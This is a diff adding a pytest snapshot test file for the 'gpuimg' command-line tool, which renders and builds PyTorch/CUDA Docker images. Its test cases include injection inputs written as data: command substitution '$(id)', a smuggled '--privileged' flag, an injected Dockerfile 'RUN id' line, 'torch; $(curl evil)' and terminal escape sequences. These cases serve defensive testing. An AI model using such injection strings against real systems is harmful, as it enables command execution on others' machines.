@@ -1,0 +1,128 @@
+"""The installed command as users see it: exit code, stdout and stderr, whole. Refresh with ``pytest --update-golden``.
+
+Nothing here has an engine: what needs none must work without.
+"""
+
+from __future__ import annotations
+
+import os
+import shlex
+import subprocess
+import sys
+from pathlib import Path
+from typing import Final
+
+import pytest
+
+import gpuimg
+
+GPUIMG: Final = Path(sys.executable).with_name("gpuimg")
+ROOT: Final = Path(__file__).parents[2]
+SNAPSHOTS: Final = Path(__file__).parent / "snapshots"
+NO_ENGINE: Final = "unix:///nonexistent/docker.sock"
+
+CASES: Final[dict[str, str | list[str]]] = {
+    "help": "--help",
+    "build-help": "build --help",
+    "render-help": "render --help",
+    "verify-help": "verify --help",
+    "matrix-help": "matrix --help",
+    "version": "--version",
+    "matrix-list": "matrix list",
+    "matrix-show": "matrix show 2.6-cu124",
+    "matrix-show-json": "matrix show 2.15 --json",
+    "matrix-validate": "matrix validate",
+    "why-compatible": "why 2.6-cu121",
+    "why-newest": "why 2.6",
+    "why-impossible": "why 2.6-cu128",
+    "why-unknown-torch": "why 2.10-cu128",
+    "render": "render 2.6-cu124",
+    "render-substitution": "render 2.6-cu121-devel",
+    "unknown-command": "bild 2.6",
+    "unknown-option": "build 2.6 --pyton 3.11",
+    "unknown-flavor": "render 2.6-cu124 --flavor devl",
+    "unknown-platform": "render 2.6-cu124 --platform windows/amd64",
+    "no-wheel-for-platform": "render 2.6-cu124 --platform linux/arm64",
+    "no-wheel-for-python": "render 2.6-cu126 --python 3.8",
+    "no-python": "render 2.6-cu124 --python three",
+    "not-a-spec": "build pytorch-2.6",
+    "nothing-to-build": "build",
+    "no-engine": "build 2.6-cu124",
+    "no-engine-verify": "verify",
+    "verify-host-without-torch": "verify --host --python /bin/true",
+    "hostile-tag": ["build", "2.6-cu124", "--tag", "x:1 --privileged\n$(id)"],
+    "hostile-base": ["render", "2.6-cu124", "--base", "debian:12\nRUN id"],
+    "hostile-extra": ["render", "2.6-cu124", "--extra", "torch; $(curl evil)"],
+    "hostile-escape": ["render", "2.6-cu124\x1b[2J\x1b]0;pwned\x07"],
+    "extra-against-the-stack": ["render", "2.6-cu124", "--extra", "torch==2.5.1"],
+    "credentials-in-index": "render 2.6-cu124 --index-url https://me:secret@pypi.example.com/simple",
+    "ca-bundle-missing": "render 2.6-cu124 --ca-bundle /nonexistent/ca.pem",
+    "output-into-foreign-folder": "render 2.6-cu124 -o matrices",
+}
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_snapshot(name: str, request: pytest.FixtureRequest) -> None:
+    case = CASES[name]
+    arguments = case if isinstance(case, list) else shlex.split(case)
+    actual = _run(arguments)
+    path = SNAPSHOTS / f"{name}.txt"
+    if request.config.getoption("--update-golden"):
+        path.write_text(actual, encoding="utf-8")
+    assert actual == path.read_text(encoding="utf-8")
+
+
+def test_no_snapshot_is_left_over() -> None:
+    assert {path.stem for path in SNAPSHOTS.glob("*.txt")} == set(CASES)
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_no_snapshot_shows_a_traceback_or_an_escape(name: str) -> None:
+    text = (SNAPSHOTS / f"{name}.txt").read_text(encoding="utf-8")
+    assert "Traceback" not in text
+    assert "\x1b" not in text
+    assert "exit code: 70" not in text
+
+
+def test_module_and_command_are_the_same() -> None:
+    done = subprocess.run(
+        [sys.executable, "-m", "gpuimg", "--version"], capture_output=True, text=True, check=True, env=_environment()
+    )
+    assert done.stdout == f"gpuimg {gpuimg.__version__}\n"
+
+
+def test_help_imports_nothing_heavy() -> None:
+    """`gpuimg --help` answers at once: what only some commands need is imported by them."""
+    code = (
+        "import sys; from gpuimg.cli.app import run; run(['--version']);"
+        "print([name for name in ('docker', 'jinja2', 'yaml', 'jsonschema', 'google.protobuf') if name in sys.modules])"
+    )
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, env=_environment())
+    assert done.stdout.splitlines()[-1] == "[]"
+
+
+def test_a_reader_that_goes_away_is_no_error() -> None:
+    done = subprocess.run(
+        f"{shlex.quote(str(GPUIMG))} matrix show 2.6 --json | head -c 1; exit ${{PIPESTATUS[0]}}",
+        shell=True,
+        executable="/bin/bash",
+        capture_output=True,
+        text=True,
+        check=False,
+        env=_environment(),
+    )
+    assert done.stderr == ""
+
+
+def _run(arguments: list[str]) -> str:
+    done = subprocess.run(
+        [GPUIMG, *arguments], capture_output=True, text=True, check=False, env=_environment(), timeout=60, cwd=ROOT
+    )
+    stdout, stderr = (text.replace(gpuimg.__version__, "VERSION") for text in (done.stdout, done.stderr))
+    command = shlex.join(["gpuimg", *arguments]).encode("unicode_escape").decode()
+    return f"$ {command}\nexit code: {done.returncode}\n--- stdout\n{stdout}--- stderr\n{stderr}"
+
+
+def _environment() -> dict[str, str]:
+    kept = {name: os.environ[name] for name in ("PATH", "HOME", "LANG", "LC_ALL") if name in os.environ}
+    return {**kept, "LANG": "C.UTF-8", "NO_COLOR": "1", "COLUMNS": "100", "TERM": "dumb", "DOCKER_HOST": NO_ENGINE}
